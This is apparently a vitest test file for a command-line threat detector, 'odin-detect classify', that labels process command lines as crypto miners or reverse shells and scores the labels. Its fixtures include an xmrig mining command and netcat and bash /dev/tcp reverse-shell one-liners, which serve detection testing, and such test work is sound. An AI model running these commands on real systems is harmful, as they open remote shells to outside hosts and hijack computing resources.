/** `odin-detect classify`: JSON lines in, one classification line out per input line. */
import { execFileSync } from 'node:child_process';
import { PassThrough } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { main } from '../../../detectors/cli/classify.js';

async function run(input: string, argv: string[] = []): Promise<{ code: number; out: string[]; err: string }> {
  const [stdin, stdout, stderr] = [new PassThrough(), new PassThrough(), new PassThrough()];
  let out = '';
  let err = '';
  stdout.on('data', (d) => (out += d));
  stderr.on('data', (d) => (err += d));
  stdin.end(input);
  const code = await main(argv, { input: stdin, output: stdout, errors: stderr });
  return { code, out: out.split('\n').filter(Boolean), err };
}

describe('classify command', () => {
  test('one output line per input line, category or nulls', async () => {
    const input = [
      { cmdline: './xmrig -o stratum+tcp://pool.example.com:3333 -u 4AzWBLaH4e2MAut9nSMHi4D3ccpY2vqsSA4TBerGmcGM' },
      { cmdline: 'curl -fsS http://localhost:8080/healthz' },
      { cmdline: 'sh', parent: 'php-fpm' },
    ].map((o) => JSON.stringify(o)).join('\n');
    const { code, out } = await run(`${input}\n`);
    expect(code).toBe(0);
    expect(out.map((l) => JSON.parse(l))).toEqual([
      { category: 'crypto_miner', severity: 'critical', rule: 'miner-stratum-url' },
      { category: null, severity: null, rule: null },
      { category: 'reverse_shell', severity: 'high', rule: 'shell-spawned-by-service' },
    ]);
  });

  test('bad lines get an error line, a note on stderr and exit status 1; good lines still come out', async () => {
    const { code, out, err } = await run('not json\n{"cmdline": 42}\n{"cmdline": "nc -e /bin/sh 10.0.0.1 4444"}\n');
    expect(code).toBe(1);
    expect(out).toHaveLength(3);
    expect(JSON.parse(out[0]).error).toMatch(/not JSON/);
    expect(JSON.parse(out[1]).error).toMatch(/cmdline/);
    expect(JSON.parse(out[2]).category).toBe('reverse_shell');
    expect(err).toMatch(/line 1: not JSON/);
  });

  test('--report scores labelled lines: detected per category, false positives on benign lines', async () => {
    const lines = [
      { category: 'reverse_shell', cmdline: 'nc -e /bin/sh 10.0.0.1 4444' },
      { category: 'reverse_shell', cmdline: 'echo hello' },
      { category: 'crypto_miner', cmdline: 'nc -e /bin/sh 10.0.0.1 4444' },
      { category: 'benign', cmdline: 'kubectl get pods -A' },
      { category: 'benign', cmdline: 'ufw disable' },
    ].map((o) => JSON.stringify(o)).join('\n');
    const { code, out, err } = await run(`${lines}\n`, ['--report']);
    expect(code).toBe(0);
    expect(out).toHaveLength(5);
    expect(err).toMatch(/reverse_shell\s+1\/2\s+0\.500/);
    expect(err).toMatch(/crypto_miner\s+1\/1\s+1\.000/);
    expect(err).toMatch(/recall \(malicious\)\s+2\/3\s+0\.667\s+same category 0\.333/);
    expect(err).toMatch(/false-positive rate\s+1\/2\s+0\.500/);
    expect((await run('{}', ['--reprot'])).code).toBe(2);
  });

  test('a 10 MB command line is cut and classified without trouble', async () => {
    const { code, out } = await run(`${JSON.stringify({ cmdline: `python -c '${'x'.repeat(10 * 1024 * 1024)}'` })}\n`);
    expect(code).toBe(0);
    expect(JSON.parse(out[0]).category).toBeNull();
  });

  test('through the odin-detect binary', () => {
    const out = execFileSync(process.execPath, ['bin/odin-detect.js', 'classify'], { input: '{"cmdline": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}\n', encoding: 'utf8', timeout: 30_000 });
    expect(JSON.parse(out.trim())).toEqual({ category: 'reverse_shell', severity: 'critical', rule: 'reverse-shell-dev-tcp' });
  });
});
